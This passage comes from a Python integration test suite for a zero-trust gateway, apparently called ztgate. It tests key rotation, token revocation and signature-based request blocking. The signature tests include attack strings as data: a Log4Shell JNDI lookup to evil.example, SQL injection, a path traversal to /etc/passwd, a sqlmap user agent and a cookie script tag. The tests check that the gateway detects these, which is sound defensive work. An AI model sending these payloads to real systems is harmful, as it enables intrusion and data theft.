            got = sorted({e['reason'] for e in inside if e['flow']['src_port'] == sport})
            if reason is None and got:
                problems.append('%s: sport %d refused (%s), expected allowed' % (label, sport, ', '.join(got)))
            elif reason is not None and got != [reason]:
                problems.append('%s: sport %d refused for %s, expected %s' % (label, sport, got or 'nothing', reason))
    if problems:
        raise AssertionError('%s:\n  %s\n--- ztgate output ---\n%s' % (name, '\n  '.join(problems), log))
    print('ok %s: %s' % (name, ', '.join('%s %d allowed' % (p[0], p[3]) for p in phases)))


# Connections per (sport, entry) in live_sessions: sport, sport + 100, sport + 200.
LIVE_COPIES = 3


def live_sessions(entries_by_sport, copies=LIVE_COPIES, filler=12):
    """Handshake, the entry's request, response and close, for every (sport, entry), in
    `copies` connections each (sport + 100 n); between them `filler` anonymous requests keep
    the event log (one line per refusal, the pcap replaying at full speed) to a few MB."""
    packets = []
    for n in range(copies):
        for sport, entry in sorted(entries_by_sport.items()):
            t = TcpSession(*ID, sport=sport + 100 * n)
            packets += t.handshake() + t.exchange(identity_request(entry)) + t.close()
        for k in range(filler):
            t = TcpSession(*ID, sport=48000 + filler * n + k)
            packets += t.handshake() + t.exchange(request('GET', '/healthz')) + t.close()
    return packets


@case('identity-rotation')
def identity_rotation(zt, args):
    """Key rotation through ztgatectl apply while traffic replays: the old key alone, both,
    the new key alone; tokens verify exactly while their key is in the JWKS (unknown_kid
    otherwise, token cache or not). Then revocation: a jti and an API key revoked, the jti
    taken back, each in force from the next request on."""
    with tempfile.TemporaryDirectory(prefix='ztg-identity-') as tmp:
        tokens = {t['name']: t for t in jose_tokens(tmp)}
        policies = {v: identity_policy(tmp, 'rotation-%s.conf' % v, keys='jwks_file = "keys/rotation-%s.jwks";' % v,
                                       algorithms=['ES256']) for v in ('old', 'both', 'new')}
        old, new = 47000, 47001
        sports = lambda w: {s + 100 * n: r for s, r in w.items() for n in range(LIVE_COPIES)}
        live = LiveZtgate(zt, args.ztgatectl, tmp, 'rotation', policies['old'],
                          live_sessions({old: tokens['rotation-old'], new: tokens['rotation-new']}))
        try:
            phases = live.steps([('old key', []),
                                 ('both keys', [['apply', policies['both']]]),
                                 ('new key', [['apply', policies['new']]])])
        finally:
            events, audits, _ = live.stop()
        if [(a['audit']['command'], a['audit']['status']) for a in audits if a['audit']['command'] == 'apply'] != \
                [('apply', 0)] * 2:
            raise AssertionError('expected two audited applies: %s' % audits)
        live_check('rotation', phases, events, {
            'old key': sports({old: None, new: 'unknown_kid'}),
            'both keys': sports({old: None, new: None}),
            'new key': sports({old: 'unknown_kid', new: None})}, live.log)

        revoked, valid, keyed = 47010, 47011, 47012
        live = LiveZtgate(zt, args.ztgatectl, tmp, 'revocation', identity_policy(tmp), live_sessions({
            revoked: tokens['revoked-jti'], valid: tokens['valid-es256'],
            keyed: identity_entry('api-key', ['X-API-Key: ' + ID_API_KEY])}))
        try:
            phases = live.steps([('none revoked', []),
                                 ('jti and key revoked', [['revoke', 'jti', 'revoked-jti-1'], ['revoke', 'key', 'batch']]),
                                 ('key revoked', [['unrevoke', 'jti', 'revoked-jti-1']])])
            listed = live.ctl('revocations')
        finally:
            events, audits, _ = live.stop()
        if 'batch' not in listed or 'revoked-jti-1' in listed:
            raise AssertionError('ztgatectl revocations: expected key batch only, got:\n%s' % listed)
        commands = [(a['audit']['command'], a['audit']['args'], a['audit']['status']) for a in audits
                    if a['audit']['command'] in ('revoke', 'unrevoke')]
        if commands != [('revoke', ['jti', 'revoked-jti-1'], 0), ('revoke', ['key', 'batch'], 0),
                        ('unrevoke', ['jti', 'revoked-jti-1'], 0)]:
            raise AssertionError('audited revocations: %s' % commands)
        details = {(e['flow']['src_port'] % 100, e.get('detail')) for e in events}
        if not details <= {(revoked % 100, 'jti'), (keyed % 100, 'key'), (revoked % 100, None), (keyed % 100, None)}:
            raise AssertionError('revocation events name the wrong kind: %s' % sorted(details, key=str))
        live_check('revocation', phases, events, {
            'none revoked': sports({revoked: None, valid: None, keyed: None}),
            'jti and key revoked': sports({revoked: 'revoked', valid: None, keyed: 'revoked'}),
            'key revoked': sports({revoked: None, valid: None, keyed: 'revoked'})}, live.log)


# ---- signatures: request fields against Hyperscan rules ------------------------------------

SIGNATURE_POLICY = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'signatures', 'policy.conf')


@case('signatures-request')
def signatures_request(zt, args):
    """Each request on its own connection against tests/pipeline/signatures/pipeline.rules: a block
    rule in a header, in an argument, in a named header and in a cookie; two scored rules that reach
    the threshold together and one that stays below it; an alert rule that only reports; a monitor
    rule and a monitor route that report what they would block; a route selecting no set; benign
    requests. Each event lists the rule ids and the score."""
    cases = [  # sport, request, expected (action, reason, rules, score) or None for no event
        (42000, request('GET', '/api/v1/search?q=shoes&page=2'), None),
        (42001, request('GET', '/api/v1/search', headers=[('X-Api-Version', '${jndi:ldap://evil.example/a}')]),
         ('deny', 'signature', [900001], 0)),
        (42002, request('GET', '/api/v1/search?q=%24%7Bjndi%3Adns%3A%2F%2Fx%7D'), ('deny', 'signature', [900001], 0)),
        (42003, request('GET', '/api/v1/search?q=1%27%20UNION%20ALL%20SELECT%20pass%20--'),
         ('deny', 'anomaly_score', [900002, 900003], 5)),
        (42004, request('GET', '/api/v1/search?q=1%20union%20select%201'), None),   # score 3 < 5: passes
        (42005, request('GET', '/api/v1/search', headers=[('X-Original-URL', '/admin/../../etc/passwd')]),
         ('deny', 'signature', [900004], 0)),
        (42006, request('GET', '/api/v1/search', headers=[('X-Forwarded-For', '../')]), None),   # not that header
        (42007, request('GET', '/api/v1/search', headers=[('User-Agent', 'sqlmap/1.7')]),
         ('pass', 'signature_alert', [900005], 0)),
        (42008, request('GET', '/api/v1/search', headers=[('Cookie', 'a=1; b=<SCRIPT>x')]), ('deny', 'signature', [900006], 0)),
        (42009, request('GET', '/api/v1/items/a%7Cb'), ('pass', 'signature_alert', [900007], 0)),
        (42010, request('GET', '/api/v1/items/x?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D'),
         ('pass', 'signature_alert', [900001], 0)),
        (42011, request('GET', '/plain?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D'), None),
        (42012, request('GET', "/api/v1/search?q=O%27Brien%27s%20union%20of%20selected%20items"), None),
    ]
    packets = []
    for sport, raw, _ in cases:
        packets += one_request(*V4, raw, sport)
    r = zt.run(packets, '--policy', SIGNATURE_POLICY)
    # Rule ids in the event in any order; each expected list is written sorted.
    events = expect_request_events(r, cases, lambda e: (e['action'], e['reason'], sorted(e.get('rules', [])),
                                                        e.get('score')))
    for sport, raw, want in cases:
        e = events.get(sport)
        if want is not None and e is not None and (e['service'] != 'orders-api' or
                                                   e['route'] not in ('search', 'items')):
            r.fail('%r: event places the request wrongly: %s' % (raw, e))
    denied = sum(1 for _, _, w in cases if w and w[0] == 'deny')
    alerts = sum(1 for _, _, w in cases if w and w[0] == 'pass')
    r.expect_totals(policy_denied=denied, signature_blocked=denied, signature_alerts=alerts, verdicts_deny=denied)
    expect_requests_forwarded(r, cases, lambda want: want is None or want[0] == 'pass')
    # Hits by rule id, as /metrics labels them: every match counted once, under its rule.
    hits = {int(k): v for k, v in r.stats['rule_hits'].items()}
    if sum(hits.values()) != r.totals['signature_matches']:
        r.fail('rule hits %s add up to %d, signature_matches is %d' % (hits, sum(hits.values()),
                                                                        r.totals['signature_matches']))
    for rule, n in ((900001, 3), (900004, 1), (900005, 1), (900006, 1), (900007, 1)):
        if hits.get(rule) != n:
            r.fail('rule %d: %s hits, expected %d (all: %s)' % (rule, hits.get(rule), n, hits))
    r.expect_requests({('orders-api', 'search', 'deny', 'signature'): 4,
                       ('orders-api', 'search', 'deny', 'anomaly_score'): 1,
                       ('orders-api', 'search', 'allow', 'allowed'): 5,
                       ('orders-api', 'items', 'allow', 'allowed'): 2,
                       ('orders-api', 'plain', 'allow', 'allowed'): 1})


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument('ztgate')
    parser.add_argument('case', choices=sorted(CASES))
    parser.add_argument('--trafgen')
    parser.add_argument('--ztgatectl')
    args = parser.parse_args()
    try:
        CASES[args.case](Ztgate(args.ztgate), args)
    except AssertionError as e:
        print('FAIL %s: %s' % (args.case, e))
        return 1
    print('ok %s' % args.case)
    return 0


if __name__ == '__main__':
    sys.exit(main())
